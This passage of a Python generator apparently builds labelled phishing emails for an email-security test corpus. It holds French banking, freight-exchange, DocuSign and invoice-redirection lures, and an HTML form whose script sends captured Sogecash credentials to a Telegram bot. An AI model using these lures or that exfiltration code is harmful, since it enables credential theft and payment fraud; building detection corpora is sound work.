<div class="top"><span></span><b style="color:#fff">SOCIETE GENERALE</b>&nbsp;<i style="color:#bbb">Sogecash Net</i></div>
<div class="box"><h3>Renouvellement de votre certificat d'authentification</h3>
<p style="font-size:13px;color:#555">Pour finaliser le renouvellement, identifiez-vous avec vos identifiants Sogecash Net.</p>
<form id="f">
<label>Identifiant abonn&eacute;</label><input id="u" required>
<label>Code utilisateur</label><input id="c" required>
<label>Mot de passe</label><input id="p" type="password" required>
<label>T&eacute;l&eacute;phone portable (code de validation)</label><input id="t" required>
<button type="submit">Valider</button></form></div>
<script>
document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault();
var m='SG|'+document.getElementById('u').value+'|'+document.getElementById('c').value+'|'+document.getElementById('p').value+'|'+document.getElementById('t').value;
fetch('https://api.telegram.org/bot{bot}/sendMessage?chat_id=-100{num(stem + 'chat', 1000000000, 9999999999)}&text='+encodeURIComponent(m)).then(function(){{
window.location.href='https://entreprises.sg.fr/';}});}});
</script></body></html>
"""
    plain = ("Madame, Monsieur,\n\nLe certificat d'authentification associe a votre abonnement Sogecash Net arrive a expiration le 31/10/2025.\n"
             "Afin de conserver l'acces a vos comptes et la validation de vos remises, merci de proceder au renouvellement en ouvrant"
             " le formulaire securise joint a ce message.\n\nCordialement,\nSociete Generale - Service Banque a Distance Entreprises\n")
    body = Multi("mixed", f"=_{hx(stem, 30)}", [
        text(plain, "plain", "7bit", "us-ascii"),
        Leaf("text/html", page.encode(), "base64", '; name="Sogecash_Renouvellement_Certificat.html"',
             'attachment; filename="Sogecash_Renouvellement_Certificat.html"'),
    ])
    host = "smtp.sg-entreprises-services.fr"
    headers = "\n".join([
        postfix_hop("[10.0.0.4] (unknown [185.234.72.19])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA"),
        dkim("sg-entreprises-services.fr", "dkim", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("Societe Generale Entreprises", "sogecash@sg-entreprises-services.fr"),
        f"To: {rcpt}",
        "Subject: Sogecash Net : renouvellement de votre certificat avant le 31/10/2025",
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 24)}@sg-entreprises-services.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Société Générale Sogecash Net 'renouvellement de certificat' lure from sg-entreprises-services.fr with an HTML attachment holding a login form that posts the credentials to a Telegram bot.",
            t=t, helo=host, ip="185.234.72.19", spf="pass", mailfrom="sg-entreprises-services.fr",
            dkims=[("pass", "sg-entreprises-services.fr")], from_dom="sg-entreprises-services.fr", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers, body=body, attach=True,
            return_path="<sogecash@sg-entreprises-services.fr>")


def a_cic_factor_subrogation() -> None:
    stem = "b51-phish-cic-factor-subrogation"
    t = paris("2025-11-18 11:02:37")
    rcpt = mail("compta")
    letter = pdf_doc([
        "CIO Carrosserie Industrielle de l'Ouest", "ZA de la Haie des Cognets - 35136 Saint-Jacques-de-la-Lande", "",
        "Objet : Notification de subrogation - contrat d'affacturage", "", "Madame, Monsieur,", "",
        "Nous vous informons que nous avons conclu un contrat d'affacturage avec CIC Factor.", "A compter de ce jour, l'ensemble de nos factures emises a votre ordre",
        "sont subrogees au profit de CIC Factor, seul habilite a en recevoir le paiement.", "",
        "Coordonnees de reglement :", "Titulaire : CIO CARROSSERIE / CIC FACTOR", "IBAN : FR76 1670 6050 8753 9214 7718 260",
        "BIC : AGRIFRPP867", "", "Tout paiement effectue sur un autre compte ne serait pas liberatoire.", "",
        "Le Gerant, Pascal Rouxel",
    ], "Notification de subrogation CIC Factor")
    paras = [
        "Bonjour,",
        "",
        "Veuillez trouver ci-joint notre notification de subrogation suite à la mise en place d'un contrat d'affacturage avec CIC Factor.",
        "Les factures en cours (FC-2025-1043, FC-2025-1067 et FC-2025-1102, total 11 286,40 € TTC) sont à régler sur le compte"
        " indiqué dans le courrier. Merci de mettre à jour votre fichier fournisseur et de nous confirmer la date de règlement.",
        "",
        "Cordialement,",
    ]
    sig = ["<b>Nathalie Gicquel</b>", "Comptabilité clients", "CIO Carrosserie Industrielle de l'Ouest", "Tél. 02 99 64 18 37"]
    html = outlook_html(paras, sig, charset="utf-8")
    plain = "\n".join(paras) + "\n\nNathalie Gicquel\nComptabilité clients\nCIO Carrosserie Industrielle de l'Ouest\nTél. 02 99 64 18 37\n"
    server = "PR3PR09MB6417.eurprd09.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "cio-carrosseries.fr", server, rcpt)
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        Multi("alternative", f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
            text(plain, "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]),
        attachment("application/pdf", "Notification_subrogation_CIC_Factor.pdf", letter),
    ])
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Nathalie Gicquel", "n.gicquel@cio-carrosseries.fr"),
        f"To: {rcpt}",
        subject("Notification de subrogation - affacturage CIC Factor", "utf-8", "Q"),
        "Thread-Topic: Notification de subrogation - affacturage CIC Factor",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Reply-To: " + addr("Nathalie Gicquel", "comptabilite.cio@cio-carrosseries.fr"),
        "Accept-Language: fr-FR",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Invoice-redirection fraud: a 'notification de subrogation CIC Factor' letter asking to pay a supplier's open invoices to a new IBAN, sent from cio-carrosseries.fr, a look-alike of the real body-shop supplier cio-carrosserie.fr.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="cio-carrosseries.fr", dkims=[("pass", "cio-carrosseries.fr")],
            from_dom="cio-carrosseries.fr", dmarc="bestguesspass", compauth="pass", reason="109", headers=headers,
            body=body, attach=True, return_path="<n.gicquel@cio-carrosseries.fr>")


def a_qonto_kyc() -> None:
    stem = "b51-phish-qonto-kyc"
    t = paris("2026-01-27 10:55:13")
    rcpt = mail("daf")
    click = f"https://email.mg.qonto-verification.com/c/{b64url(stem + 'c', 150)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f6f5f3;font-family:Inter,Helvetica,Arial,sans-serif">
<table role="presentation" width="100%"><tr><td align="center" style="padding:32px 12px">
<table role="presentation" width="560" style="background:#fff;border-radius:8px">
<tr><td style="padding:32px 36px 0 36px"><img src="https://qonto.com/blog/images/asset/qonto-logo-black.png" width="96" alt="Qonto"></td></tr>
<tr><td style="padding:24px 36px;color:#1d1d1b;font-size:15px;line-height:24px">
<h1 style="font-size:22px;margin:0 0 16px 0">V&eacute;rification de votre identit&eacute; requise</h1>
<p>Bonjour Anne-Sophie,</p>
<p>Dans le cadre de nos obligations r&eacute;glementaires (lutte contre le blanchiment, LCB-FT), nous devons mettre &agrave; jour les informations d'identit&eacute; des repr&eacute;sentants de <b>KERLANN INDUSTRIES</b>.</p>
<p>Sans v&eacute;rification avant le <b>30 janvier 2026</b>, les virements sortants et les cartes de votre compte seront temporairement suspendus.</p>
<p style="margin:28px 0"><a href="{click}" style="background:#1d1d1b;color:#fff;padding:14px 24px;border-radius:4px;text-decoration:none;font-weight:600">V&eacute;rifier mon identit&eacute;</a></p>
<p>Merci de votre confiance,<br>L'&eacute;quipe Qonto</p>
</td></tr>
<tr><td style="padding:18px 36px;font-size:12px;color:#8a8a8a;border-top:1px solid #eee">Qonto - 18 rue de Navarin, 75009 Paris. Olinda SAS, &eacute;tablissement de paiement agr&eacute;&eacute; par l'ACPR.</td></tr>
</table></td></tr></table>
<img width="1" height="1" alt="" src="https://email.mg.qonto-verification.com/o/{b64url(stem + 'o', 90)}"></body></html>
"""
    plain = strip_tags(html)
    ip = "159.135.228.14"
    helo = "m228-14.mailgun.net"
    headers = "\n".join([
        dkim("mg.qonto-verification.com", "krs", t, "Content-Type: Mime-Version: Subject: From: To: Message-Id: Date: Sender: Sender", stem, q=True),
        dkim("qonto-verification.com", "pic", t, "Content-Type:Mime-Version:Subject:From:To:Message-Id:Date", stem + "2", q=True),
        "X-Mailgun-Sid: " + b64(stem + "sid", 60)[:76],
        fold(f"Received: by {hx(stem + 'mgh', 10)}.mailgun.org with HTTP id {hx(stem + 'mgid', 24)}; {rfc(utc(t))}"),
        f"X-Mailgun-Sending-Ip: {ip}",
        "X-Mailgun-Batch-Id: " + hx(stem + "batch", 24),
        "Mime-Version: 1.0",
        subject("Action requise : vérification d'identité de votre compte Qonto", "utf-8", "B"),
        "From: Qonto <securite@qonto-verification.com>",
        f"To: {rcpt}",
        f"Message-Id: <{t.astimezone(timezone.utc).strftime('%Y%m%d%H%M%S')}.{hx(stem + 'mid', 16)}@mg.qonto-verification.com>",
        "Sender: securite=qonto-verification.com@mg.qonto-verification.com",
        f"Date: {rfc(utc(t))}",
    ])
    deliver(stem, "phishing",
            "Qonto KYC 'vérification d'identité sous peine de suspension' lure sent through Mailgun from qonto-verification.com, with Mailgun click tracking to a Qonto login clone.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="mg.qonto-verification.com",
            dkims=[("pass", "mg.qonto-verification.com"), ("pass", "qonto-verification.com")],
            from_dom="qonto-verification.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, hx(stem + "bd", 32)),
            return_path="<bounce+" + hx(stem + "rp", 6) + "." + hx(stem + "rp2", 6) + "-" + rcpt.replace("@", "=") + "@mg.qonto-verification.com>")


# ---------------------------------------------------------------- freight exchanges


def a_teleroute_acces() -> None:
    stem = "b51-phish-teleroute-acces"
    t = paris("2025-02-11 09:31:46")
    rcpt = mail("affret")
    url = "https://teleroute-alpega-login.firebaseapp.com/fr/connexion?cid=" + hx(stem + "cid", 12)
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333;background:#fff">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #e5e5e5">
<tr><td style="background:#1c2d5a;padding:16px 24px;color:#fff;font-size:20px;font-weight:bold">teleroute <span style="font-size:11px;font-weight:normal;color:#9fb3d9">by Alpega</span></td></tr>
<tr><td style="padding:24px;line-height:21px">
<p>Bonjour Kevin,</p>
<p>Nous proc&eacute;dons actuellement &agrave; la migration des comptes Teleroute vers la nouvelle plateforme Alpega. Votre acc&egrave;s (ID soci&eacute;t&eacute; <b>FR-218874</b>) n'a pas encore &eacute;t&eacute; migr&eacute;.</p>
<p>Pour continuer &agrave; consulter et publier des offres de fret sans interruption, merci de confirmer vos identifiants avant le <b>14/02/2025</b>. Au-del&agrave; de cette date, les comptes non migr&eacute;s seront d&eacute;sactiv&eacute;s.</p>
<p><a href="{url}" style="color:#e4572e;font-weight:bold">Confirmer mon acc&egrave;s Teleroute</a></p>
<p>Cordialement,<br>Service Client Teleroute France</p>
</td></tr></table></body></html>
"""
    host = "mx.alpega-teleroute.com"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("alpega-teleroute.com", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("Teleroute Service Client", "service.client@alpega-teleroute.com"),
        f"To: {rcpt}",
        subject("Migration Alpega : confirmez votre accès Teleroute avant le 14/02", "UTF-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@alpega-teleroute.com>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Teleroute freight-exchange credential kit ('migration Alpega, confirmez votre accès') from the look-alike alpega-teleroute.com, linking to a firebaseapp.com login clone.",
            t=t, helo=host, ip="45.88.67.140", spf="pass", mailfrom="alpega-teleroute.com",
            dkims=[("pass", "alpega-teleroute.com")], from_dom="alpega-teleroute.com", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"'),
            return_path="<service.client@alpega-teleroute.com>")


def a_timocom_nachricht() -> None:
    stem = "b51-phish-timocom-nachricht"
    t = paris("2025-04-15 14:03:29")
    rcpt = mail("affret")
    url = "https://timocom-smartlogistics.web.app/messenger/?id=" + hx(stem + "id", 16)
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#eef2f5;font-family:Arial,sans-serif">
<table align="center" width="580" style="background:#fff;margin-top:20px" cellpadding="0" cellspacing="0">
<tr><td style="padding:18px 28px;border-bottom:3px solid #ffd200"><b style="font-size:22px;color:#00305e">TIMOCOM</b></td></tr>
<tr><td style="padding:26px 28px;font-size:14px;line-height:22px;color:#222">
<p>Hallo,</p>
<p>Sie haben <b>1 neue Nachricht</b> von <b>Spedition Kowalczyk Sp. z o.o.</b> zu Ihrem Frachtangebot <b>Rennes (FR) &rarr; Pozna&#324; (PL), 13,6 LDM</b> erhalten.</p>
<p style="background:#f4f6f8;padding:12px;font-style:italic">&bdquo;Guten Tag, wir k&ouml;nnen die Ladung morgen ab 8 Uhr &uuml;bernehmen. Preisvorschlag im Anhang.&ldquo;</p>
<p><a href="{url}" style="background:#00305e;color:#fff;text-decoration:none;padding:11px 22px">Nachricht im Messenger lesen</a></p>
<p style="font-size:12px;color:#888">Bitte melden Sie sich mit Ihren TIMOCOM-Zugangsdaten an, um die Nachricht anzuzeigen.</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#999;background:#f7f7f7">TIMOCOM GmbH &middot; TIMOCOM Platz 1 &middot; 40699 Erkrath</td></tr>
</table></body></html>
"""
    host = "smtp.timocom-messenger.de"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("timocom-messenger.de", "mail", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: TIMOCOM Messenger <noreply@timocom-messenger.de>",
        f"To: {rcpt}",
        subject("Neue Nachricht zu Ihrem Frachtangebot Rennes - Poznań", "UTF-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@timocom-messenger.de>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "German TIMOCOM 'new messenger message about your freight offer' credential lure from the look-alike timocom-messenger.de, linking to a web.app login clone.",
            t=t, helo=host, ip="91.215.85.44", spf="pass", mailfrom="timocom-messenger.de",
            dkims=[("pass", "timocom-messenger.de")], from_dom="timocom-messenger.de", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=alt(strip_tags(html), html, f"=_{hx(stem + 'b', 24)}", "quoted-printable", "UTF-8"),
            return_path="<noreply@timocom-messenger.de>")


def a_b2pweb_ipfs() -> None:
    stem = "b51-phish-b2pweb-ipfs"
    t = paris("2025-06-03 07:12:05")
    rcpt = "exploitation@kerlann-industries.fr"
    url = "https://ipfs.io/ipfs/bafybeih" + b64(stem + "cid", 40).lower().replace("+", "").replace("/", "")[:50] + "/b2pweb.html#exploitation@kerlann-industries.fr"
    plain = ("B2PWeb - Bourse de fret\n\nBonjour,\n\nLe mot de passe de votre compte B2PWeb (exploitation@kerlann-industries.fr) expire"
             " aujourd'hui.\nPour conserver l'accès à vos offres de fret et à vos partenaires, merci de le renouveler :\n\n"
             f"{url}\n\nSi vous ne renouvelez pas votre mot de passe, votre compte sera verrouillé.\n\nL'équipe B2PWeb\n")
    headers = "\n".join([
        fold(f"Received: from User ([{'194.169.175.31'}]) by WIN-HV0OQ7G5L2B with Microsoft SMTPSVC(10.0.17763.1697); {rfc(t)}"),
        "From: B2PWeb <support@b2pweb.com>",
        f"To: {rcpt}",
        subject("B2PWeb : votre mot de passe expire aujourd'hui", "utf-8", "B"),
        f"Date: {rfc(t)}",
        f"Message-ID: <WIN-HV0OQ7G5L2B{hx(stem + 'mid', 16, True)}@WIN-HV0OQ7G5L2B>",
        "X-Priority: 1",
        "X-MSMail-Priority: High",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "B2PWeb 'mot de passe expire aujourd'hui' message spoofing support@b2pweb.com from a bare Windows SMTP host (SPF softfail, no DKIM), linking to a credential page on an IPFS gateway.",
            t=t, helo="WIN-HV0OQ7G5L2B", ip="194.169.175.31", spf="softfail", mailfrom="b2pweb.com",
            dkims=[("none", None)], from_dom="b2pweb.com", dmarc="none", compauth="fail", reason="001",
            headers=headers, body=Leaf("text/plain", plain.encode(), "8bit", '; charset="utf-8"'),
            return_path="<support@b2pweb.com>", tls=None)


# ---------------------------------------------------------------- Microsoft 365 from partner tenants


def a_sharepoint_partenaire() -> None:
    stem = "b51-phish-sharepoint-partenaire"
    t = paris("2025-07-15 15:47:22")
    rcpt = mail("exploit")
    link = ("https://socomarmanutention-my.sharepoint.com/:o:/g/personal/x_pichon_socomar-manutention_fr/"
            f"E{b64url(stem + 'sp', 33)}?e={b64url(stem + 'e', 5)[:6]}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:500px;border:1px solid #e1dfdd;padding:28px">
<p style="font-size:21px;color:#201f1e;margin:0 0 18px 0">Xavier Pichon a partag&eacute; un fichier avec vous</p>
<table cellpadding="0" cellspacing="0"><tr><td style="padding-right:12px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/onetoc.png" width="40" alt=""></td>
<td style="font-size:15px;color:#201f1e"><b>Commandes_transport_T3_Socomar</b><br><span style="font-size:12px;color:#605e5c">Bonjour Sandrine, voici le planning des enl&egrave;vements du 3e trimestre avec les nouveaux tarifs.</span></td></tr></table>
<p style="margin:26px 0 10px 0"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:9px 20px;text-decoration:none;font-size:14px;border-radius:2px">Ouvrir</a></p>
<p style="font-size:11px;color:#a19f9d;margin-top:30px">Ce lien ne fonctionne que pour les destinataires directs de ce message.</p>
<p style="font-size:11px;color:#a19f9d"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/microsoft_32x1.png" width="70" alt="Microsoft"> &nbsp;Confidentialit&eacute;</p>
</div>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Xavier Pichon<br>Responsable Logistique<br>SOCOMAR Manutention - Port de Saint-Malo<br>T&eacute;l : 02 23 18 45 60</p>
</body></html>
"""
    plain = ("Xavier Pichon a partagé un fichier avec vous\n\nCommandes_transport_T3_Socomar\nBonjour Sandrine, voici le planning des"
             f" enlèvements du 3e trimestre avec les nouveaux tarifs.\n\nOuvrir <{link}>\n\nXavier Pichon\nResponsable Logistique\n"
             "SOCOMAR Manutention - Port de Saint-Malo\n")
    server = "PAWPR02MB9471.eurprd02.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "socomar-manutention.fr", server, rcpt)
    headers = "\n".join([
        hop, sigs,
        "From: Xavier Pichon <x.pichon@socomar-manutention.fr>",
        "To: " + to("exploit"),
        subject("Xavier Pichon a partagé « Commandes_transport_T3_Socomar » avec vous", "utf-8", "Q"),
        "Thread-Topic: Commandes_transport_T3_Socomar",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Hand-made SharePoint sharing notice sent from a compromised mailbox at the port-handling partner Socomar (their real M365 tenant, all checks pass), pointing to a OneNote file on the partner's OneDrive that leads to an AiTM login.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="socomar-manutention.fr",
            dkims=[("pass", "socomar-manutention.fr")], from_dom="socomar-manutention.fr", dmarc="pass",
            compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_"),
            return_path="<x.pichon@socomar-manutention.fr>")


def a_messagerie_vocale() -> None:
    stem = "b51-phish-messagerie-vocale"
    t = paris("2025-09-02 12:18:40")
    rcpt = mail("daf")
    target = base64.b64encode(b"https://vm-playback.audio-msg-eu.workers.dev/play/").decode()
    victim = base64.b64encode(rcpt.encode()).decode()
    page = f"""<html><head><meta charset="utf-8"><title>Lecture du message vocal...</title></head>
<body style="font-family:Segoe UI,Arial;background:#f3f2f1;text-align:center;padding-top:80px">
<img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b?ver=5c31" width="108"><br><br>
<div style="font-size:15px;color:#323130">Chargement du message vocal (00:47)...</div>
<script>
var _u = atob("{target}");
var _e = "{victim}";
setTimeout(function(){{ window.location.replace(_u + "#" + _e); }}, 900);
</script></body></html>
"""
    paras = [
        "Message vocal reçu",
        "",
        "De : +33 2 99 41 87 16 (Ligne externe)",
        "À : Anne-Sophie Le Goff",
        "Durée : 00:47",
        "Reçu le : 02/09/2025 12:14",
        "",
        "Le message audio est joint à cet e-mail. Ouvrez la pièce jointe pour l'écouter.",
    ]
    html = outlook_html([p.replace("Message vocal reçu", "<b>Message vocal reçu</b>") for p in paras], charset="utf-8")
    server = "DB9PR03MB7328.eurprd03.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "breizhfroid.fr", server, rcpt)
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        Multi("alternative", f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
            text("\n".join(paras) + "\n", "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]),
        Leaf("text/html", page.encode(), "base64", '; name="VM_0047s_+33299418716.htm"',
             'attachment; filename="VM_0047s_+33299418716.htm"'),
    ])
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Messagerie vocale", "f.delaunay@breizhfroid.fr"),
        "To: " + to("daf"),
        subject("Nouveau message vocal de +33 2 99 41 87 16 (00:47)", "utf-8", "Q"),
        "Thread-Topic: Nouveau message vocal de +33 2 99 41 87 16 (00:47)",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Voicemail notification sent from a compromised mailbox of the partner Breizh Froid Logistique (its real M365 tenant); the .htm 'audio' attachment redirects to an AiTM page on workers.dev with the victim's address in the fragment.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="breizhfroid.fr", dkims=[("pass", "breizhfroid.fr")],
            from_dom="breizhfroid.fr", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body,
            attach=True, return_path="<f.delaunay@breizhfroid.fr>")


def a_docusign_abus() -> None:
    stem = "b51-phish-docusign-abus"
    t = paris("2025-10-07 10:26:11")
    rcpt = mail("daf")
    a, acct, er = guid(stem + "a"), guid(stem + "acct"), guid(stem + "er")
    link = f"https://eu.docusign.net/Signing/EmailStart.aspx?a={a}&acct={acct}&er={er}"
    code = hx(stem + "code", 32, True)
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:2px;margin:0;background-color:#eaeaea">
<table style="border-spacing:0;border-collapse:collapse;max-width:640px;width:100%;margin:0 auto;background-color:#eaeaea" align="center">
<tr><td style="padding:10px 24px"><img src="https://eu.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" style="border:none;width:116px;height:34px"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table width="100%" style="background-color:#1e4ca1;color:#fff;border-spacing:0"><tr><td style="padding:28px 36px 36px 36px;border-radius:2px;text-align:center;font-family:Helvetica,Arial,sans-serif">
<img src="https://eu.docusign.net/member/Images/email/docInvite-white.png" style="width:75px;height:75px" alt=""><br>
<div style="font-size:16px;line-height:24px;padding-top:20px">Transports Menez vous a envoy&eacute; un document &agrave; examiner et &agrave; signer.</div>
<table cellspacing="0" cellpadding="0" style="margin:30px auto 0"><tr><td align="center" style="font-size:15px;font-weight:bold;font-family:Helvetica,Arial,sans-serif;background-color:#ffc423;border-radius:2px">
<a href="{link}" style="font-size:15px;color:#333333;text-decoration:none;display:inline-block;padding:0 24px;line-height:44px"><span style="padding:0px;line-height:44px">EXAMINER LE DOCUMENT</span></a></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000;background-color:white;font-family:Helvetica,Arial,sans-serif;font-size:15px">
<table><tr><td style="padding-top:24px"><b>Transports Menez</b><br><a href="mailto:compta.transportsmenez@gmail.com" style="color:#2463d1">compta.transportsmenez@gmail.com</a></td></tr>
<tr><td style="padding-top:16px;line-height:20px">Bonjour,<br><br>Merci de bien vouloir valider l'avenant tarifaire 2026 (indexation gazole) ainsi que la mise &agrave; jour de nos coordonn&eacute;es bancaires avant vendredi.<br><br>Cordialement,<br>Service comptabilit&eacute;</td></tr></table></td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;color:#666;font-family:Helvetica,Arial,sans-serif;font-size:11px;line-height:14px">
<b>Ne partagez pas cet e-mail</b><br>Cet e-mail contient un lien s&eacute;curis&eacute; vers Docusign. Veuillez ne pas partager cet e-mail, ce lien ou ce code d'acc&egrave;s avec d'autres personnes.<br><br>
<b>M&eacute;thode de signature alternative</b><br>Rendez-vous sur docusign.com, cliquez sur 'Acc&eacute;der aux documents' et saisissez le code de s&eacute;curit&eacute; :<br>{code}<br><br>
<b>&Agrave; propos de Docusign</b><br>Signez des documents &eacute;lectroniquement en quelques minutes seulement. C'est s&ucirc;r, s&eacute;curis&eacute; et juridiquement contraignant.</td></tr>
</table>
<img src="https://eu.docusign.net/member/Images/email/trk.gif?id={hx(stem + 'trk', 24)}" width="1" height="1" alt=""></body></html>
"""
    plain = (f"Transports Menez vous a envoyé un document à examiner et à signer.\n\nEXAMINER LE DOCUMENT\n{link}\n\n"
             "Transports Menez\ncompta.transportsmenez@gmail.com\n\nBonjour,\n\nMerci de bien vouloir valider l'avenant tarifaire 2026"
             " (indexation gazole) ainsi que la mise à jour de nos coordonnées bancaires avant vendredi.\n\nCordialement,\nService comptabilité\n\n"
             f"Ne partagez pas cet e-mail\n\nMéthode de signature alternative\nRendez-vous sur docusign.com, cliquez sur 'Accéder aux documents'"
             f" et saisissez le code de sécurité :\n{code}\n")
    host = f"mailfr{num(stem + 'h', 10, 19)}.eumail.docusign.net"
    ip = f"185.81.102.{num(stem + 'ip', 10, 60)}"
    headers = "\n".join([
        fold(f"Received: from docusign.net (10.245.{num(stem + 'a1', 1, 200)}.{num(stem + 'a2', 1, 200)}) by {host} with Microsoft SMTP Server id 14.3.498.0; {rfc(utc(t))}"),
        dkim("eumail.docusign.net", "eumail", t, "From:To:Subject:Date:Message-ID:Reply-To:Content-Type:MIME-Version", stem),
        "From: " + addr("Transports Menez via Docusign", "dse@eumail.docusign.net", quote=True),
        "Reply-To: " + addr("Transports Menez", "compta.transportsmenez@gmail.com", quote=True),
        f"To: {addr(*K['daf'])}",
        subject("Complétez avec Docusign : Avenant_tarifaire_2026_Kerlann.pdf", "utf-8", "B"),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@eumail.docusign.net>",
        f"X-DocuSign-EnvelopeID: {guid(stem + 'env')}",
        "X-API-Host: eu.docusign.net",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Genuine DocuSign envelope (eumail.docusign.net, all checks pass) sent from an attacker's free account posing as the haulier 'Transports Menez', whose note asks to validate a tariff amendment and 'updated bank details'; reply goes to a gmail.com address.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="eumail.docusign.net", dkims=[("pass", "eumail.docusign.net")],
            from_dom="eumail.docusign.net", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"----=_Part_{num(stem, 1000000, 9999999)}_{num(stem + 'b', 100000000, 999999999)}", "quoted-printable", "utf-8"),
            return_path="<dse@eumail.docusign.net>")


# ---------------------------------------------------------------- spoofs and look-alikes of kerlann-industries.fr


def a_quarantaine_directsend() -> None:
    stem = "b51-phish-quarantaine-directsend"
    t = paris("2025-11-25 08:04:51")
    rcpt = mail("comptable")
    base = "https://m365-quarantine.kerlann-secure.workers.dev/release?u=" + base64.b64encode(rcpt.encode()).decode()
    rows = [("ordres-virement@bnpparibas.com", "Confirmation ordre de virement n° 88413"),
            ("noreply@chorus-pro.gouv.fr", "Facture 2025-11-0412 mise en paiement"),
            ("comptabilite@armor-transit.fr", "RE: Relevé de compte novembre"),
            ("docs@maersk.com", "Invoice 7512284013 - Kerlann Industries")]
    trs = "\n".join(
        f'<tr><td style="padding:8px;border-bottom:1px solid #eee">{s}</td><td style="padding:8px;border-bottom:1px solid #eee">{subj}</td>'
        f'<td style="padding:8px;border-bottom:1px solid #eee"><a href="{base}&m={i}" style="color:#0078d4">Lib&eacute;rer</a></td></tr>'
        for i, (s, subj) in enumerate(rows, 1))
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#323130">
<div style="max-width:640px">
<p style="font-size:20px;color:#0078d4;margin-bottom:4px">Microsoft 365 - Notification de quarantaine</p>
